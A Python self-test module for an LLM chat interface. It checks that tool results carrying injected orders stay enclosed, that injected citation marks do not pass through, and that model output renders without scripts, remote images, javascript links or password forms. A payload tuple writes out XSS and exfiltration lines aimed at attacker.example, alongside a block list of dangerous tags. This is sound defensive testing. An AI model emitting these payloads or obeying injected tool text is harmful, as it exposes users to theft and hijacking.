"""Attacks on section H: results and answers that want to be more than data."""

from typing import Final

from nova_ui.components.model_text import render
from nova_ui.domain.text import mark
from nova_ui.llm.port import ResultMessage
from nova_ui.self_test import words
from nova_ui.self_test.attack import Attack, reading
from nova_ui.self_test.findings import Finding, held, not_applicable, not_held
from nova_ui.self_test.organisation import CITATION, MARKER
from nova_ui.self_test.scene import Scene

_OPENING: Final = "<tool_result tool="
_CLOSING: Final = "</tool_result>"
_HOSTILE: Final = (
    "<script>alert(1)</script>",
    "![x](https://attacker.example/?q=1)",
    '<img src="https://attacker.example/x" onerror="alert(1)">',
    "[Your invoice](javascript:alert(1))",
    '<form action="https://attacker.example"><input name="password"></form>',
    '<p style="display:none" onclick="x()">hidden</p>',
    "<iframe src=https://attacker.example></iframe>",
)
_NEVER: Final = (
    "<script",
    "<img",
    "<form",
    "<input",
    "<iframe",
    "<style",
    'href="javascript:',
    "<p style",
    "<p onclick",
)

ENCLOSED: Final = mark("{count} results with hostile text read; each stayed in its envelope.")
LEFT_ENVELOPE: Final = mark("A result could leave its envelope: {what}.")
LINK_SHOWN: Final = mark("Cleaned; a link shows where it leads.")
GOES_ON: Final = mark("The error reached the model in plain words, and the turn went on.")


async def _leave_the_envelope(scene: Scene) -> Finding:
    met = 0
    for name, content in await _read(scene):
        met += 1
        is_whole = content.startswith(_OPENING) and content.rstrip().endswith(_CLOSING)
        if not is_whole or content.count(_CLOSING) != 1 or content.count(_OPENING) != 1:
            return not_held(LEFT_ENVELOPE, what=name)
    return held(ENCLOSED, count=met) if met else not_applicable(words.NOTHING_READ)


async def _invent_sources(scene: Scene) -> Finding:
    met = 0
    for name, content in await _read(scene):
        met += 1
        if CITATION in content or "[^7]" in content:
            return not_held(words.SEEN, what=name)
    return held(ENCLOSED, count=met) if met else not_applicable(words.NOTHING_READ)


async def _read(scene: Scene) -> list[tuple[str, str]]:
    """Have everything read, and return what the model was told of results that hold the prepared texts."""
    found = []
    for call in scene.reads():
        scene.stage.model.requests.clear()
        await scene.say("Read it.", [call])
        last = scene.stage.model.requests[-1:]
        contents = [one.content for request in last for one in request.messages if isinstance(one, ResultMessage)]
        found += [(call.name, content) for content in contents if MARKER in content and "SYSTEM" in content]
    return found


async def _rendered(_scene: Scene) -> Finding:
    for text in _HOSTILE:
        markup = render(text).lower()
        seen = next((one for one in _NEVER if one in markup), None)
        if seen is not None:
            return not_held(words.SEEN, what=seen.strip("<"))
    shown = render("[harmless](https://elsewhere.example/path)")
    return held(LINK_SHOWN) if shown.count("elsewhere.example") > 1 else not_held(words.MISSING, what="href")


async def _failing(scene: Scene) -> Finding:
    scene.stage.watcher.is_shut = True
    for call in scene.reads():
        answer = await scene.say("Read it.", [call])
        scene.stage.model.requests.clear()
        seen = answer.calls[:1]
        if not seen or seen[0].status != "error":
            continue
        is_plain = seen[0].content and "Traceback" not in seen[0].content
        return held(GOES_ON) if is_plain and answer.text else not_held(words.MISSING, what=call.name)
    return not_applicable(words.NOTHING_READ)


ATTACKS: Final = (
    Attack(
        rule="H1",
        words=mark("Has texts read that close their own envelope and give orders."),
        run=_leave_the_envelope,
        needs=(reading,),
    ),
    Attack(
        rule="H2",
        words=mark("Lets the model answer with scripts, pictures from elsewhere, forms and hidden text."),
        run=_rendered,
    ),
    Attack(
        rule="H3",
        words=mark("Has texts read that bring citation marks with them."),
        run=_invent_sources,
        needs=(reading,),
    ),
    Attack(
        rule="H4",
        words=mark("Lets Nova fail in the middle of a turn."),
        run=_failing,
        needs=(reading,),
    ),
)
